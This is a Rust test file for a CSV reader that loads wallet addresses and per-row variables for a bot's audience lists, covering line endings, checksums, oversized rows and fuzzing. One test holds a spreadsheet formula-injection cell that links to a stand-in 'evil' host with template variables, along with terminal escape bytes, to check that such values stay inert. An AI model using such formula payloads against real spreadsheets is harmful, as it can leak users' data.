use std::io::{self, Read};

use super::{Filter, read, records::Records};
use crate::bot::{
    audience::{
        gather::Error,
        named::{Found, NamedRow},
        row::Row,
    },
    expression::{Expression, Names, Scope, Type},
};

const A: &str = "0x87870Bca3F3fD6335C3F4ce8392D69350B4fA4E2";
const LOWER: &str = "0x87870bca3f3fd6335c3f4ce8392d69350b4fa4e2";
const WRONG: &str = "0x87870bca3F3fD6335C3F4ce8392D69350B4fA4E2";

fn everybody() -> Filter {
    Filter {
        condition: None,
        scope: Scope::new(),
        name: "row",
    }
}

/// What a file gives: `line wallet vars` or `line reason`, then the error if it has one.
fn found(file: impl Read, column: &str, filter: Filter) -> Vec<String> {
    let mut found = Vec::new();
    let outcome = read(file, ("`team.csv`", column), filter, |row| {
        found.push(match row {
            Found::Row(Row { number, found }) => match found {
                Ok((wallet, vars)) => format!("{number} {wallet} {}", vars.unwrap_or_default()),
                Err(reason) => format!("{number} {reason}"),
            },
            Found::Named(NamedRow { number, name, vars }) => {
                format!("{number} {name} {}", serde_json::Value::Object(vars))
            }
        });
        Ok(())
    });
    match outcome {
        Ok(()) => {}
        Err(Error::Unresolved(reason)) => found.push(format!("unresolved: {reason}")),
        Err(other) => panic!("{other:?}"),
    }
    found
}

#[track_caller]
fn gives(file: impl AsRef<[u8]>, wanted: &[&str]) {
    assert_eq!(found(file.as_ref(), "wallet", everybody()), wanted);
}

#[test]
fn rows_are_read_whatever_their_line_ends_marks_and_quotes() {
    let row = |line: u32, vars: &str| format!("{line} {A} {vars}");
    gives(format!("wallet\n{A}\n"), &[&row(2, "")]);
    gives(format!("wallet\n{A}"), &[&row(2, "")]);
    gives(format!("\u{feff}wallet\r\n{A}\r\n"), &[&row(2, "")]);
    gives(format!("\u{feff}\"wallet\"\r\n\"{LOWER}\"\r\n"), &[&row(2, "")]);
    gives(format!("wallet\r{A}\r{LOWER}\r"), &[&row(2, ""), &row(3, "")]);
    gives(
        format!("\n\n wallet , tier,\n\n\n {LOWER} ,gold,x\n{A},,\n"),
        &[&row(6, r#"{"tier":"gold"}"#), &row(7, "")],
    );
    gives(
        format!("note,wallet\n\"a \"\"b\"\", c\nd\",{A}\nlast,{A}\n"),
        &[
            &row(2, r#"{"note":"a \"b\", c\nd"}"#),
            &row(4, r#"{"note":"last"}"#),
        ],
    );
    gives("wallet\n", &[]);
}

#[test]
fn formulas_and_what_looks_like_a_template_are_text() {
    let cell = "=HYPERLINK(\"\"http://evil\"\";\"\"{{ vars }}\"\")";
    gives(
        format!("wallet,name\n{A},\"{cell}\"\n=1+1,x\n@SUM(A1),x\n"),
        &[
            &format!(r#"2 {A} {{"name":"=HYPERLINK(\"http://evil\";\"{{{{ vars }}}}\")"}}"#),
            "3 found `=1+1`, wanted an address: `0x` and 40 hex digits",
            "4 found `@SUM(A1)`, wanted an address: `0x` and 40 hex digits",
        ],
    );
}

#[test]
fn a_row_that_cannot_be_read_is_told_by_its_line_and_the_others_are_read() {
    let file = [
        b"wallet,tier,tz\n".as_slice(),
        format!("{WRONG},1,\n").as_bytes(),
        format!("{A},gold,\n").as_bytes(),
        b",x,\n0x12,x,\nalice.eth,x,\n",
        format!("{A}\n{A},1,,4\n").as_bytes(),
        format!("{A},é,\n").as_bytes(),
        &[A.as_bytes(), b",\xe9,\n"].concat(),
        format!("{A},1,Mars/X\n{A},,Europe/Lisbon\n").as_bytes(),
        b"\x1b[31m\x07,x,\n",
        format!("{A},{},\n", "x".repeat(20_000)).as_bytes(),
    ]
    .concat();
    gives(
        file,
        &[
            &format!(
                "2 address `{WRONG}` has a wrong checksum, wanted `{A}` (or all lower case if the digits are right)"
            ),
            &format!(r#"3 {A} {{"tier":"gold"}}"#),
            "4 found no wallet",
            "5 found `0x12`, wanted an address: `0x` and 40 hex digits",
            r#"6 alice.eth {"tier":"x"}"#,
            "7 has 1 cells, the header has 3",
            "8 has 4 cells, the header has 3",
            &format!(r#"9 {A} {{"tier":"é"}}"#),
            "10 is not UTF-8: `\u{fffd}`",
            "11 `tz`: found \"Mars/X\", wanted a time zone such as Europe/Lisbon",
            &format!(r#"12 {A} {{"tz":"Europe/Lisbon"}}"#),
            "13 found `\u{fffd}[31m\u{fffd}`, wanted an address: `0x` and 40 hex digits",
            "14 has more than 16 KiB of variables",
        ],
    );
}

#[test]
fn a_file_without_the_header_that_is_wanted_gives_nothing() {
    let unresolved = |reason: &str| format!("unresolved: `team.csv`: {reason}");
    for (file, reason) in [
        (
            "",
            "expected a header with the names of the columns, found an empty file",
        ),
        (
            "\n\r\n\n",
            "expected a header with the names of the columns, found an empty file",
        ),
        ("<!DOCTYPE html>\n<p>\n", "the header has no column `wallet`"),
        (
            "Wallet,x\n",
            "the header has no column `wallet`, did you mean `Wallet`?",
        ),
        ("wallet,x,y,x\n", "column `x` stands twice in the header"),
        ("wallet,wallet\n", "column `wallet` stands twice in the header"),
        ("token=SECRET\n", "the header has no column `wallet`"),
    ] {
        gives(file, &[&unresolved(reason)]);
    }
    gives(b"wallet,\xff\n", &[&unresolved("the header is not UTF-8")]);
    let wide = format!("wallet{}\n{A}\n", ",x".repeat(2_000));
    gives(wide, &[&unresolved("the header has more than 1,024 cells")]);
    assert_eq!(
        found(
            format!("address,wallet\n{A},x\n").as_bytes(),
            "address",
            everybody()
        ),
        [format!("2 {A} ")],
        "`wallet` is no variable: `to.wallet` is the recipient"
    );
}

/// So many bytes of one letter, made as they are read.
fn endless(bytes: u64) -> impl Read {
    io::repeat(b'x').take(bytes)
}

#[test]
fn a_row_of_gigabytes_is_one_broken_row_and_takes_no_memory() {
    let head = format!("wallet\n{A}\n");
    let tail = format!("\n{A}\n");
    let file = head.as_bytes().chain(endless(1 << 28)).chain(tail.as_bytes());
    let wanted = [
        format!("2 {A} "),
        "3 is longer than 64 KiB".to_owned(),
        format!("4 {A} "),
    ];
    assert_eq!(found(file, "wallet", everybody()), wanted);
    let cells = format!("wallet\n{}\n{A}\n", ",".repeat(60_000));
    gives(cells, &["2 has more than 1,024 cells", &format!("3 {A} ")]);
}

#[test]
fn a_quote_that_does_not_close_swallows_no_rows_in_silence() {
    let rest = format!("{A}\n").repeat(10_000);
    gives(
        format!("wallet\n{A}\n\"{rest}"),
        &[
            &format!("2 {A} "),
            "unresolved: `team.csv`: line 3: a quote that opens there does not close within 64 KiB",
        ],
    );
}

#[test]
fn where_sees_the_row_and_its_failure_is_the_rows_own() {
    let row = Type::Record(
        [("wallet", Type::Wallet), ("n", Type::Any), ("gone", Type::Any)]
            .into_iter()
            .collect(),
    );
    let names: Names = [("row", row)].into_iter().collect();
    let filter = |condition: &str| Filter {
        condition: Some(Expression::parse(condition, &names).unwrap()),
        ..everybody()
    };
    let file = format!("wallet,n\n{A},5\n{A},50\n{A},\n{A},many\n");
    let rows = |condition| found(file.as_bytes(), "wallet", filter(condition));
    let found = rows("row.n > 9");
    assert_eq!(found.len(), 2, "{found:?}");
    assert_eq!(found[0], format!(r#"3 {A} {{"n":"50"}}"#));
    assert!(found[1].starts_with("5 `where`: "), "{found:?}");
    assert_eq!(
        rows("row.wallet != 0x87870Bca3F3fD6335C3F4ce8392D69350B4fA4E2"),
        Vec::<String>::new()
    );
    assert_eq!(rows("row.gone == none").len(), 4);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 200, failure_persistence: None, ..Default::default() })]

    /// Each row is read or told, in ascending lines, whatever the bytes are.
    #[test]
    fn no_bytes_make_the_reader_panic_or_lose_a_row(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300)) {
        let file = [b"wallet,a\n".as_slice(), &bytes].concat();
        let mut lines = Vec::new();
        let outcome = read(file.as_slice(), ("x", "wallet"), everybody(), |row| {
            lines.push(match row {
                Found::Row(row) => row.number,
                Found::Named(row) => row.number,
            });
            Ok(())
        });
        let mut records = Records::new(file.as_slice());
        let mut count = 0;
        while let Ok(Some(_)) = records.next() {
            count += 1;
        }
        proptest::prop_assert!(outcome.is_ok());
        proptest::prop_assert_eq!(lines.len() + 1, count);
        proptest::prop_assert!(lines.windows(2).all(|pair| pair[0] < pair[1]));
    }
}
